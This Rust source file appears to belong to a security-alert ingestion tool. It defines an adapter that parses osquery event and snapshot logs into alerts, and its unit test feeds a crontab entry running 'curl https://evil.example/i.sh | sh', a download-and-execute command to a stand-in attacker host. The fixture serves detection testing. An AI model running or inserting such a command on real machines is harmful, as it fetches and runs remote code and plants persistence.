//! osquery result logs: event and snapshot format. (<https://osquery.readthedocs.io/en/stable/deployment/logging/>)

use kernel::{Channel, IndicatorKind as K};
use serde_json::Value;

use crate::{
    adapter::{Adapter, Confidence, Item, NotMine, one},
    authentication::Authentication,
    draft::Draft,
    field::{at, first, first_moment, has, has_all, list, text},
    format::observables,
};

pub(crate) const ADAPTER: Adapter = Adapter {
    name: "osquery",
    vendor: "osquery",
    product: "osquery",
    reads: "scheduled query results: event and snapshot logs",
    channel: Channel::Mdr,
    authentication: Authentication::Bearer,
    recognise,
    parse,
};

fn recognise(item: &Item<'_>) -> Confidence {
    let Some(value) = item.value() else { return Confidence::No };
    let change = has_all(value, &["name", "columns", "action"]);
    let snapshot =
        has_all(value, &["name", "hostIdentifier"]) && (has(value, "snapshot") || has(value, "diffResults"));
    Confidence::Certain.when(change || snapshot)
}

fn parse(item: &Item<'_>) -> Result<Vec<Draft>, NotMine> {
    one(item, read)
}

fn read(value: &Value, draft: &mut Draft) {
    draft.title = text(value, "name").map(str::to_owned);
    draft.occurred_at = first_moment(value, &["unixTime", "calendarTime"]);
    for path in ["decorations/hostname", "decorations/host_name", "hostIdentifier"] {
        draft.host(text(value, path));
    }
    draft.account(first(value, &["decorations/username", "decorations/user"]));
    let rows = list(value, "columns")
        .chain(list(value, "snapshot"))
        .chain(list(value, "diffResults/added"))
        .take(1000);
    for row in rows {
        columns(row, draft);
    }
    draft.description = at(value, "columns")
        .and_then(|row| first(row, &["command", "cmdline", "description"]).map(str::to_owned));
}

/// Columns that mean the same in every table of osquery's schema.
fn columns(row: &Value, draft: &mut Draft) {
    draft.account(first(row, &["username", "user", "logged_in_user"]));
    draft.hashes(row);
    for name in ["path", "target_path", "binary_path"] {
        draft.indicator(K::FilePath, text(row, name).filter(|path| path.contains(['/', '\\'])));
    }
    draft.indicator(K::RegistryKey, text(row, "key").filter(|key| key.starts_with("HKEY_")));
    for name in ["remote_address", "address", "source_address", "host", "ip_address"] {
        draft.address(text(row, name));
    }
    for name in ["cmdline", "command"] {
        if let Some(command) = text(row, name) {
            draft.indicator(K::Process, command);
            observables::in_text(draft, command);
        }
    }
    observables::web(draft, first(row, &["url", "referrer"]).filter(|url| url.contains("://")));
}

#[cfg(test)]
mod tests {
    use crate::testing::alerts;
    use serde_json::json;

    #[test]
    fn a_new_cron_entry_that_downloads_something() {
        let input = json!({"name": "pack_incident-response_crontab", "hostIdentifier": "ws-exam3", "calendarTime": "Mon Mar  2 08:14:15 2026 UTC",
            "unixTime": "1772439255", "action": "added", "columns": {"command": "curl https://evil.example/i.sh | sh", "path": "/etc/crontab", "minute": "17"}});
        assert_eq!(
            alerts(&input),
            [json!({
                "channel": "mdr", "source": "osquery", "source_id": null, "title": "pack_incident-response_crontab",
                "description": "curl https://evil.example/i.sh | sh", "severity": null, "source_severity": null, "status": null,
                "occurred_at": "2026-03-02T08:14:15Z", "reported_at": null, "hosts": ["ws-exam3"], "accounts": [],
                "indicators": [{"kind": "file_path", "value": "/etc/crontab"}, {"kind": "process", "value": "curl https://evil.example/i.sh | sh"},
                    {"kind": "url", "value": "https://evil.example/i.sh"}, {"kind": "domain", "value": "evil.example"}],
                "techniques": [], "link": null
            })]
        );
    }
}
